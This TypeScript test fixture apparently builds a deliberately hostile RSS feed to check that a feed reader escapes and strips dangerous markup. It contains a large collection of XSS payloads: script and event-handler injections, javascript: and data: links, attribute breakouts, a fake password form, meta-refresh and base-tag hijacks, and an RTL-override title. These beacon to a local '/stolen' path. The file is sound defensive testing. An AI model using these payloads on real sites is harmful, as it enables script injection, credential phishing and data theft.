import type { SourceSettings } from '../../functions/sources/settings';
import type { FeedServer } from '../feed-server';
import { publishPicture } from './news';

/** Where hostile markup tries to get to: asked for, it has run. */
export const STOLEN = '/stolen';

/** A title that would turn around what stands behind it. */
const TURNED = 'Turned \u202e around';

/** A word that no page is wide enough for. */
export const LONG_WORD = 'Donaudampfschifffahrt'.repeat(20);

/** What is tried in one field after the other, in the hope that some page forgets to escape one. */
const BREAKOUTS = [
  `<script>fetch('${STOLEN}/script');alert(1)</script>`,
  `"><img src=x onerror="fetch('${STOLEN}/attribute');alert(1)">`,
  `" onmouseover="alert(1)" autofocus onfocus="fetch('${STOLEN}/focus');alert(1)" x="`,
  `' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='`,
  '</title></textarea></style><svg onload=alert(1)>',
  `{{constructor.constructor('alert(1)')()}}\${alert(1)}`,
];

/** A picture whose address tries to get out of its attribute, as browsers ask for it. */
const PICTURE = '/hostile.svg?x=%22onerror=%22alert(1)%22';

/** Markup that no content keeps: it runs, loads, leads away, covers or sends something. */
const content = (origin: string): string => {
  const at = (name: string) => `${origin}${STOLEN}/${name}`;
  return `<script src="${at('script.js')}"></script><script>alert(1)</script>
<style>@import "${at('style.css')}"; body { display: none } * { background: url(${at('background')}) }</style>
<link rel="stylesheet" href="${at('link.css')}"><meta http-equiv="refresh" content="0; url=${at('refresh')}"><base href="${at('base')}/">
<iframe src="${at('frame')}" srcdoc="<script>parent.alert(1)</script>"></iframe><object data="${at('object')}"></object><embed src="${at('embed')}">
<svg onload="alert(1)"><script>alert(1)</script><use href="${at('use.svg#x')}"/><image href="${at('svg-image')}"/><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>
<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)"></style></mglyph></table></mtext></math>
<img src="x" onerror="alert(1)" onload="alert(1)"><img src="javascript:alert(1)"><input autofocus onfocus="alert(1)">
<form action="${at('form')}"><button formaction="javascript:alert(1)">Sign in again</button><input name="password" type="password"></form>
<p id="results" style="position: fixed; inset: 0; background: url(${at('inline-style')})" onclick="alert(1)">Covers all</p>
<details open ontoggle="alert(1)"><summary>Open</summary></details><video poster="/hostile-poster.svg" autoplay onloadstart="alert(1)"><source src="x" onerror="alert(1)"></video>
<a href="javascript:alert(1)">A link that runs</a> <a href="JaVa&#9;ScRiPt:alert(1)">Another</a> <a href="data:text/html,<script>alert(1)</script>">A third</a>
<a href="https://example.com/" target="_top" onclick="alert(1)" ping="${at('ping')}">An honest link</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><img src=x onerror=alert(1)></template>
<p>${LONG_WORD}</p><p>What is left of it</p>`;
};

const text = (value: string): string => value.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

/** An element of RSS. Its text may be markup, and what is in that is taken out: escaped often enough, it is left. */
const element = (name: string, value: string, times: number): string => {
  let escaped = value;
  for (let time = 0; time < times; time++) escaped = text(escaped);
  return `<${name}>${escaped}</${name}>`;
};

/**
 * A feed whose author means harm to whoever reads it: in its own name, in titles, summaries, names, categories and
 * addresses, and in content.
 */
export function hostileNews(feeds: FeedServer): SourceSettings {
  const date = (index: number) => new Date(Date.now() - (index + 1) * 60_000).toUTCString();
  const picture = publishPicture(feeds, PICTURE, '#7a5a9a');
  const item = (title: string, index: number) =>
    `<item>${element('title', title, 3)}${element('description', title, 2)}${element('author', title, 3)}${element('category', title, 3)}
<guid isPermaLink="false">hostile-${index}</guid><pubDate>${date(index)}</pubDate><link>${text(feeds.url(`/hostile?${title}`))}</link>
<enclosure url="${feeds.url(picture).replaceAll('%22', '&quot;')}" type="image/svg+xml" length="1"/>
<content:encoded>${text(content(feeds.url('')))}</content:encoded></item>`;
  // What any picture may be asked for.
  for (const path of ['/x', '/hostile-poster.svg']) publishPicture(feeds, path, '#5a9a7a');
  const titles = [...BREAKOUTS, TURNED, LONG_WORD];
  feeds.set(
    '/hostile.rss',
    `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>${element('title', `Hostile ${BREAKOUTS[0]}`, 3)}${titles.map(item).join('\n')}</channel></rss>`,
  );
  // Its name is what the feed says.
  return { id: 'hostile', url: feeds.url('/hostile.rss') };
}
